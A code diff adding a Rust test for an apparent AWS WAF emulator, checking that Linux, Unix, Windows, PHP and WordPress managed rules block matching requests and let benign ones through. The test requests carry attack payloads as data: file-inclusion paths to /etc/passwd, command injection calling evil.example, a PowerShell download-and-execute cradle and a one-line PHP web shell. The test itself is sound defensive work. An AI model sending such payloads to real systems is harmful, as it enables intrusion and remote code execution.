@@ -1357,3 +1357,127 @@ fn managed_rule_groups_this_server_cannot_render_are_refused() {
     .unwrap_err();
     assert_eq!(e.code, "WAFInvalidParameterException");
 }
+
+#[test]
+fn operating_system_and_application_groups_block_their_shapes() {
+    let acl = compile(
+        json!({"Allow": {}}),
+        json!([
+            managed("AWSManagedRulesLinuxRuleSet", 0, json!({})),
+            managed("AWSManagedRulesUnixRuleSet", 1, json!({})),
+            managed("AWSManagedRulesWindowsRuleSet", 2, json!({})),
+            managed("AWSManagedRulesPHPRuleSet", 3, json!({})),
+            managed("AWSManagedRulesWordPressRuleSet", 4, json!({})),
+            rule(
+                "posix-label",
+                5,
+                json!({"LabelMatchStatement": {"Scope": "NAMESPACE",
+                "Key": "awswaf:managed:aws:posix-os:"}}),
+                json!({"Count": {}})
+            ),
+        ]),
+    )
+    .unwrap();
+    assert_eq!(acl.capacity, 200 + 100 + 200 + 100 + 100 + 1);
+    let get =
+        |path: &'static str, query: &'static str, headers: &[(&'static str, &'static str)]| {
+            decide(&acl, &request("192.0.2.1", "GET", path, query, headers))
+        };
+    for (path, query, headers, rule) in [
+        ("/prod/proc/self/environ", "", vec![], "LFI_URIPATH"),
+        (
+            "/prod/view",
+            "file=%2Fetc%2Fpasswd",
+            vec![],
+            "LFI_QUERYSTRING",
+        ),
+        (
+            "/prod/view",
+            "",
+            vec![("referer", "/proc/version")],
+            "LFI_HEADER",
+        ),
+        (
+            "/prod/run",
+            "cmd=echo%20%24HOME",
+            vec![],
+            "UNIXShellCommandsVariables_QUERYARGUMENTS",
+        ),
+        (
+            "/prod/run",
+            "host=x%7C%7Cnslookup%20evil.example",
+            vec![],
+            "WindowsShellCommands_QUERYARGUMENTS",
+        ),
+        (
+            "/prod/run",
+            "",
+            vec![("cookie", "pref=x||nslookup evil.example")],
+            "WindowsShellCommands_COOKIE",
+        ),
+        (
+            "/prod/run",
+            "s=Invoke-Expression%20(x)",
+            vec![],
+            "PowerShellCommands_QUERYARGUMENTS",
+        ),
+        (
+            "/prod/page",
+            "q=fsockopen(%22evil%22%2C80)",
+            vec![],
+            "PHPHighRiskMethodsVariables_QUERYSTRING",
+        ),
+        (
+            "/prod/page",
+            "",
+            vec![("x-data", "$_GET['x']")],
+            "PHPHighRiskMethodsVariables_HEADER",
+        ),
+        (
+            "/prod/wp-admin/admin-ajax.php",
+            "action=do-reset-wordpress",
+            vec![],
+            "WordPressExploitableCommands_QUERYSTRING",
+        ),
+        (
+            "/prod/xmlrpc.php",
+            "",
+            vec![],
+            "WordPressExploitablePaths_URIPATH",
+        ),
+    ] {
+        let headers: Vec<(&'static str, &'static str)> = headers;
+        assert_eq!(
+            get(path, query, &headers).as_deref(),
+            Some(rule),
+            "{path}?{query} {headers:?}"
+        );
+    }
+    for query in [
+        "q=home%20and%20path",
+        "price=10%24",
+        "os=windows&cmd=list",
+        "name=php%20books",
+    ] {
+        assert_eq!(get("/prod/items", query, &[]), None, "{query}");
+    }
+    let post = |body: &'static str| {
+        decide(
+            &acl,
+            &with_body(request("192.0.2.1", "POST", "/prod/run", "", &[]), body),
+        )
+    };
+    assert_eq!(
+        post("script=; cat /tmp/x").as_deref(),
+        Some("UNIXShellCommandsVariables_BODY")
+    );
+    assert_eq!(
+        post("x=IEX (New-Object Net.WebClient).DownloadString('http://e/a')").as_deref(),
+        Some("PowerShellCommands_BODY")
+    );
+    assert_eq!(
+        post("<?php system($_GET['c']); ?>").as_deref(),
+        Some("PHPHighRiskMethodsVariables_BODY")
+    );
+    assert_eq!(post(r#"{"note": "Windows and Linux are both fine"}"#), None);
+}
